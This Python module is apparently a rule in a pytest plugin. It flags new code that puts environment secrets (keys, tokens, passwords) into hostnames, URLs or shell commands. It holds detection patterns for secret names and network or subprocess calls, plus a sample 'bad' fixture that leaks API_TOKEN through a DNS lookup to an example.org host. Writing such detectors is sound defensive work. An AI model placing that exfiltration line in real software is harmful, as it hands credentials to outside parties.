"""Secrets of the environment that leave in a name, an address or a command. Pure."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from pytest_agentgate.checks.integrity.names import Names, walk
from pytest_agentgate.checks.integrity.rule import Hit, RuleSet
from pytest_agentgate.checks.integrity.testfiles import tail
from pytest_agentgate.checks.integrity.view import Pair, View
from pytest_agentgate.rulebook import Rule, one

SECRET = re.compile(r"(^|_)(\w*KEY|TOKEN|SECRETS?|PASSW(OR)?D|CREDENTIALS?|COOKIE|AUTH)(_|$)", re.IGNORECASE)
"""Names of variables that hold what nobody else may know."""
ASKS = frozenset({"os.getenv", "os.environ.get", "os.environ.__getitem__", "os.environ.pop"})
WHOLE = frozenset({"os.environ.items", "os.environ.copy", "os.environ.values", "os.environb"})
SENDS = re.compile(
    r"socket\.(getaddrinfo|gethostbyname(_ex)?|gethostbyaddr|create_connection)|urllib\.request\.(urlopen|urlretrieve|Request)|"
    r"(requests|httpx)\.(get|post|put|patch|head|delete|options|request|stream)|http\.client\.HTTPS?Connection|webbrowser\.open|"
    r"subprocess\.(run|Popen|call|check_call|check_output)|os\.(system|popen)"
)
"""Functions of which the first argument is a host, an address or a command: it is seen on the way, logged and kept."""


def find(view: View) -> Iterator[Hit]:
    """New calls of the product that put a secret into what they ask for."""
    for pair in view.python("product"):
        if pair.new is None or pair.new.tree is None or (b"environ" not in pair.new.data and b"getenv" not in pair.new.data):
            continue
        fresh, names = {id(n) for n in pair.fresh_nodes[1]}, pair.new.names
        calls = [c for c in pair.new.of(ast.Call) if c.args and SENDS.fullmatch(names.dotted(c.func))]
        held = _held(pair) if calls else set()
        for call in calls:
            if id(call) in fresh and _is_secret(call.args[0], names, held):
                words = f"{names.dotted(call.func)} gets a secret of the environment as a part of what it asks for"
                yield Hit(RULE.id, words, pair.path, call.lineno, pair.new.line(call.lineno))


def _held(pair: Pair) -> set[str]:
    """Local names that are given a secret, or something made of one."""
    if pair.new is None:
        return set()
    assigned = [(t.id, n.value) for n in pair.new.of(ast.Assign) for t in n.targets if isinstance(t, ast.Name)]
    found: set[str] = set()
    for _ in range(4):  # names that are made of names
        more = {name for name, value in assigned if _is_secret(value, pair.new.names, found)}
        if more <= found:
            break
        found |= more
    return found


def _is_secret(value: ast.expr, names: Names, held: set[str]) -> bool:
    for node in walk([value]):
        if isinstance(node, ast.Name) and node.id in held:
            return True
        if isinstance(node, ast.Call):
            called = names.dotted(node.func)
            asked = names.text(node.args[0]) if node.args and called in ASKS else None
            everything = called in WHOLE or (
                tail(node) in ("dict", "str", "repr", "dumps") and any(_is_environment(a, names) for a in node.args)
            )
        else:
            asked = names.text(node.slice) if isinstance(node, ast.Subscript) and names.dotted(node.value) == "os.environ" else None
            everything = isinstance(node, ast.FormattedValue) and _is_environment(node.value, names)
        if everything or (asked and SECRET.search(asked)):
            return True
    return False


def _is_environment(node: ast.AST, names: Names) -> bool:
    return names.dotted(node) == "os.environ"


_CODE = "def ask(name):\n    return name\n"
_BAD, _GOOD = one(
    "ask.py",
    (_CODE, "import os\nimport socket\n\n\ndef ask(name):\n    socket.getaddrinfo(os.environ['API_TOKEN'] + '.example.org', 80)\n    return name\n"),
    (_CODE, "import os\nimport socket\n\n\ndef ask(name):\n    socket.getaddrinfo(os.environ['API_HOST'], 80)\n    return name\n"),
)  # fmt: skip
RULE = Rule(
    "integrity/secret-leaves",
    "hold",
    "A secret of the environment becomes part of a host, an address or a command",
    "Whoever serves the name, or keeps a log on the way, learns it. Programs send keys in headers, and hand variables to other programs "
    "as their environment.",
    _BAD,
    _GOOD,
    "Send it in a header over TLS, or hand it on as a variable. A human allows it: `--approve integrity/secret-leaves:PATH`.",
)
SET = RuleSet((RULE,), find)
